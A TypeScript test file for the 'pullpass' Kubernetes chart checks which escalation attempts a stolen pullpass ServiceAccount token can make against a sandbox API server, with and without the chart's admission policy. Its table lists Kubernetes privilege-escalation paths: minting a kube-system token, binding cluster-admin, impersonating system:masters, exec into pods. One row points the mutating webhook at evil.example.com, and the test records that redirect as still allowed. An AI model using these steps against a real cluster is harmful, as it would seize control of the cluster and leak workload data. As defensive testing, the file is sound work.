import { join } from 'node:path'
import t, { type Test } from 'tap'
import { Agent, fetch } from 'undici'
import { type ControlPlane, startControlPlane } from '../../sandbox/control-plane.ts'
import { installBeside, kubectl, releaseNamespace } from '../../sandbox/install.ts'
import { waitFor } from '../../sandbox/processes.ts'
import { CHART, createHelm, find, type Manifest } from '../chart/helm.ts'

/*
 * Somebody has taken over a pod of pullpass and has the token of its ServiceAccount: what can be done with it?
 * Each row is tried on the real API server, without and with the chart's policy on pullpass's own Secrets.
 * What stays open in the self-managed certificate mode is the way to its own webhook configuration.
 */

const SECRET = 'pullpass-registry'
const WEBHOOKS = '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations'
const POLICIES = '/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies'
const POLICY = 'pullpass.pullpass.secrets.pullpass.io'
const RBAC = '/apis/rbac.authorization.k8s.io/v1'
const ours = { 'app.kubernetes.io/managed-by': 'pullpass' }

interface Way {
  what: string
  verb: 'GET' | 'POST' | 'DELETE' | 'APPLY' | 'MERGE'
  path: string
  body?: object
  headers?: Record<string, string>
  /** Whether the API server lets it through without the policy, and with it. */
  without: boolean
  with: boolean
}

const ESCALATION = 'a ServiceAccount token of kube-system'
const base64 = (text: string) => Buffer.from(text).toString('base64')
const dockerConfig = { '.dockerconfigjson': base64('{"auths":{}}') }

/** A Secret of pullpass's own kind, but for what `change` says. */
function secret(change: object = {}, metadata: object = {}): object {
  return {
    apiVersion: 'v1',
    kind: 'Secret',
    metadata: { name: SECRET, labels: ours, ...metadata },
    type: 'kubernetes.io/dockerconfigjson',
    data: dockerConfig,
    ...change,
  }
}

function secretIn(namespace: string, name = SECRET): string {
  return `/api/v1/namespaces/${namespace}/secrets/${name}`
}

const token = {
  type: 'kubernetes.io/service-account-token',
  data: {},
}
const tokenOf = {
  annotations: { 'kubernetes.io/service-account.name': 'clusterrole-aggregation-controller' },
}
const configuration = (name: string, webhooks: object[]) => ({
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'MutatingWebhookConfiguration',
  metadata: { name },
  webhooks,
})
const elsewhere = { name: 'inject.pullpass.io', clientConfig: { url: 'https://evil.example.com/' } }
const admin = {
  apiVersion: 'rbac.authorization.k8s.io/v1',
  kind: 'ClusterRoleBinding',
  metadata: { name: 'up' },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
  subjects: [{ kind: 'ServiceAccount', name: 'pullpass', namespace: releaseNamespace }],
}

/** `shop` holds a pull Secret already; `kube-system` and `empty` hold none. */
const WAYS: Way[] = [
  // What pullpass is there for.
  {
    what: 'its pull Secret',
    verb: 'APPLY',
    path: secretIn('shop'),
    body: secret(),
    without: true,
    with: true,
  },
  // Secrets of another type, key, label or place.
  {
    what: ESCALATION,
    verb: 'APPLY',
    path: secretIn('kube-system'),
    body: secret(token, tokenOf),
    without: true,
    with: false,
  },
  {
    what: 'a bootstrap token',
    verb: 'APPLY',
    path: secretIn('kube-system'),
    body: secret({ type: 'bootstrap.kubernetes.io/token', data: {} }),
    without: true,
    with: false,
  },
  {
    what: 'an Opaque Secret of its name',
    verb: 'APPLY',
    path: secretIn('empty'),
    body: secret({ type: 'Opaque' }),
    without: true,
    with: false,
  },
  {
    what: 'a TLS Secret of its name',
    verb: 'APPLY',
    path: secretIn('empty'),
    body: secret({ type: 'kubernetes.io/tls', data: { 'tls.crt': '', 'tls.key': '' } }),
    without: true,
    with: false,
  },
  {
    what: 'a pull Secret without its label',
    verb: 'APPLY',
    path: secretIn('empty'),
    body: secret({}, { labels: {} }),
    without: true,
    with: false,
  },
  {
    what: 'a pull Secret with one more key',
    verb: 'APPLY',
    path: secretIn('empty'),
    body: secret({ data: { ...dockerConfig, 'more.conf': '' } }),
    without: true,
    with: false,
  },
  {
    what: 'one more key in a pull Secret',
    verb: 'APPLY',
    path: secretIn('shop'),
    body: secret({ data: { ...dockerConfig, 'more.conf': '' } }),
    without: true,
    with: false,
  },
  {
    what: 'a CA in another namespace',
    verb: 'APPLY',
    path: secretIn('empty', 'pullpass-ca'),
    body: secret({ type: 'kubernetes.io/tls' }, { name: 'pullpass-ca' }),
    without: false,
    with: false,
  },
  {
    what: 'the CA as another type',
    verb: 'APPLY',
    path: secretIn(releaseNamespace, 'pullpass-ca'),
    body: secret(token, {
      name: 'pullpass-ca',
      annotations: { 'kubernetes.io/service-account.name': 'pullpass' },
    }),
    without: true,
    with: false,
  },
  {
    what: 'a Secret of another name',
    verb: 'APPLY',
    path: secretIn('empty', 'another'),
    body: secret({}, { name: 'another' }),
    without: false,
    with: false,
  },
  {
    what: 'a Secret by POST',
    verb: 'POST',
    path: '/api/v1/namespaces/empty/secrets',
    body: secret(),
    without: false,
    with: false,
  },
  {
    what: 'to read every Secret',
    verb: 'GET',
    path: '/api/v1/secrets',
    without: false,
    with: false,
  },
  {
    what: 'to read a Secret of another name',
    verb: 'GET',
    path: secretIn('kube-system', 'another'),
    without: false,
    with: false,
  },
  {
    what: 'to read the credentials of the environment',
    verb: 'GET',
    path: secretIn(releaseNamespace, 'bluemix'),
    without: false,
    with: false,
  },
  // Tokens, pods, identities.
  {
    what: 'a token of another ServiceAccount',
    verb: 'POST',
    path: '/api/v1/namespaces/kube-system/serviceaccounts/default/token',
    body: { spec: {} },
    without: false,
    with: false,
  },
  {
    what: 'a pod',
    verb: 'POST',
    path: '/api/v1/namespaces/kube-system/pods',
    body: { metadata: { name: 'x' }, spec: { containers: [] } },
    without: false,
    with: false,
  },
  {
    what: 'a command in a pod',
    verb: 'POST',
    path: '/api/v1/namespaces/kube-system/pods/any/exec?command=sh',
    without: false,
    with: false,
  },
  {
    what: 'to be cluster-admin',
    verb: 'POST',
    path: `${RBAC}/clusterrolebindings`,
    body: admin,
    without: false,
    with: false,
  },
  {
    what: 'a wider role of its own',
    verb: 'MERGE',
    path: `${RBAC}/clusterroles/pullpass:pullpass`,
    body: { rules: [] },
    without: false,
    with: false,
  },
  {
    what: 'to act as the administrator',
    verb: 'GET',
    path: '/api/v1/secrets',
    headers: { 'impersonate-user': 'admin', 'impersonate-group': 'system:masters' },
    without: false,
    with: false,
  },
  { what: 'a node', verb: 'GET', path: '/api/v1/nodes', without: false, with: false },
  {
    what: 'a ConfigMap',
    verb: 'GET',
    path: '/api/v1/namespaces/kube-system/configmaps',
    without: false,
    with: false,
  },
  {
    what: 'the label of a namespace',
    verb: 'MERGE',
    path: '/api/v1/namespaces/kube-system',
    body: { metadata: { labels: { x: 'y' } } },
    without: false,
    with: false,
  },
  {
    what: "another's Lease",
    verb: 'MERGE',
    path: '/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager',
    body: { spec: { holderIdentity: 'x' } },
    without: false,
    with: false,
  },
  {
    what: 'a change of an event',
    verb: 'MERGE',
    path: '/apis/events.k8s.io/v1/namespaces/shop/events/any',
    body: { note: 'x' },
    without: false,
    with: false,
  },
  // Admission.
  {
    what: 'another webhook configuration',
    verb: 'APPLY',
    path: `${WEBHOOKS}/another`,
    body: configuration('another', []),
    without: false,
    with: false,
  },
  {
    what: 'the end of its webhook configuration',
    verb: 'DELETE',
    path: `${WEBHOOKS}/pullpass`,
    without: false,
    with: false,
  },
  {
    what: 'the end of the policy',
    verb: 'DELETE',
    path: `${POLICIES}/${POLICY}`,
    without: false,
    with: false,
  },
  {
    what: 'another policy',
    verb: 'MERGE',
    path: `${POLICIES}/${POLICY}`,
    body: { spec: { failurePolicy: 'Ignore' } },
    without: false,
    with: false,
  },
  {
    what: 'another address in its webhook configuration',
    verb: 'APPLY',
    path: `${WEBHOOKS}/pullpass`,
    body: configuration('pullpass', [elsewhere]),
    without: true,
    with: true,
  },
]

t.test('an intruder with the token of pullpass cannot become more than pullpass', async t => {
  const controlPlane = await startControlPlane()
  t.teardown(controlPlane.stop)
  await installBeside(controlPlane, {
    domain: 'dedicated.example.com',
    webhookUrl: 'https://127.0.0.1:1/mutate',
    failurePolicy: 'Ignore',
  })
  for (const name of ['shop', 'empty']) await kubectl(controlPlane, 'create', 'namespace', name)
  const attempt = await actAsPullpass(t, controlPlane)
  const own = { verb: 'APPLY', path: secretIn('shop'), body: secret() } as const
  t.equal(await attempt({ ...own, dryRun: false }), 201, 'its pull Secret in shop')
  await whenEscalationIs(attempt, false)
  const withPolicy = await attemptAll(attempt)
  await kubectl(controlPlane, 'delete', 'validatingadmissionpolicy', POLICY)
  await whenEscalationIs(attempt, true)
  const without = await attemptAll(attempt)
  t.comment(`${'what the token of pullpass allows'.padEnd(50)} without policy  with policy`)
  for (const [index, { what, ...expected }] of WAYS.entries()) {
    const statuses = [without[index] ?? 0, withPolicy[index] ?? 0] as const
    const [before, after] = statuses.map(status => (isAllowed(status) ? 'yes' : `no (${status})`))
    t.comment(`${what.padEnd(50)} ${before?.padEnd(15)} ${after}`)
    t.equal(isAllowed(statuses[0]), expected.without, `without the policy: ${what} (${before})`)
    t.equal(isAllowed(statuses[1]), expected.with, `with the policy: ${what} (${after})`)
  }
})

t.test('pullpass can repair a pull Secret to which somebody added a key', async t => {
  const controlPlane = await startControlPlane()
  t.teardown(controlPlane.stop)
  await installBeside(controlPlane, {
    domain: 'dedicated.example.com',
    webhookUrl: 'https://127.0.0.1:1/mutate',
    failurePolicy: 'Ignore',
  })
  await kubectl(controlPlane, 'create', 'namespace', 'shop')
  const attempt = await actAsPullpass(t, controlPlane)
  const own = { verb: 'APPLY', path: secretIn('shop'), body: secret(), dryRun: false } as const
  t.equal(await attempt(own), 201)
  const added = JSON.stringify({ data: { 'more.conf': base64('x') } })
  await kubectl(controlPlane, 'patch', 'secret', SECRET, '-n', 'shop', '-p', added)
  t.equal(await attempt(own), 200)
})

t.test('without a self-managed CA its webhook configuration cannot be changed', async t => {
  const { render } = await createHelm(t, 'helm')
  for (const file of ['cert-manager-values.yaml', 'host-network-values.yaml']) {
    const { rules } = find(await render(['--values', join(CHART, 'ci', file)]), 'ClusterRole')
    const rule = rules.find((each: Manifest) =>
      each.resources.includes('mutatingwebhookconfigurations'),
    )
    t.same(rule.verbs, ['get', 'list', 'watch'], file)
  }
})

type Attempt = (
  way: Pick<Way, 'verb' | 'path'> & Partial<Pick<Way, 'body' | 'headers'>> & { dryRun?: boolean },
) => Promise<number>

/** Sends one request with the token of pullpass, as a dry run; resolves with the status. */
async function actAsPullpass(t: Test, controlPlane: ControlPlane): Promise<Attempt> {
  const bearer = await controlPlane.token(releaseNamespace, 'pullpass')
  const dispatcher = new Agent({ connect: { ca: controlPlane.ca } })
  t.teardown(() => dispatcher.close())
  return async ({ verb, path, body, headers, dryRun = true }) => {
    const url = new URL(path, controlPlane.url)
    if (verb === 'APPLY') {
      url.searchParams.set('fieldManager', 'pullpass')
      url.searchParams.set('force', 'true')
    }
    if (dryRun && verb !== 'GET') url.searchParams.set('dryRun', 'All')
    const response = await fetch(url, {
      method: METHOD[verb],
      headers: { authorization: `Bearer ${bearer}`, 'content-type': TYPE[verb], ...headers },
      body: body === undefined ? null : JSON.stringify(body),
      dispatcher,
    })
    await response.arrayBuffer()
    return response.status
  }
}

const METHOD = { GET: 'GET', POST: 'POST', DELETE: 'DELETE', APPLY: 'PATCH', MERGE: 'PATCH' }
const TYPE = {
  GET: 'application/json',
  POST: 'application/json',
  DELETE: 'application/json',
  APPLY: 'application/apply-patch+yaml',
  MERGE: 'application/merge-patch+json',
}

async function attemptAll(attempt: Attempt): Promise<number[]> {
  const statuses: number[] = []
  for (const way of WAYS) statuses.push(await attempt(way))
  return statuses
}

/** A policy takes a moment to count. */
async function whenEscalationIs(attempt: Attempt, allowed: boolean): Promise<void> {
  const escalation = WAYS.find(({ what }) => what === ESCALATION) as Way
  await waitFor(async () => isAllowed(await attempt(escalation)) === allowed, {
    withinMs: 30_000,
    what: `the policy to be ${allowed ? 'gone' : 'there'}`,
  })
}

/** What may be read may also not be there. */
function isAllowed(status: number): boolean {
  return status < 300 || status === 404
}
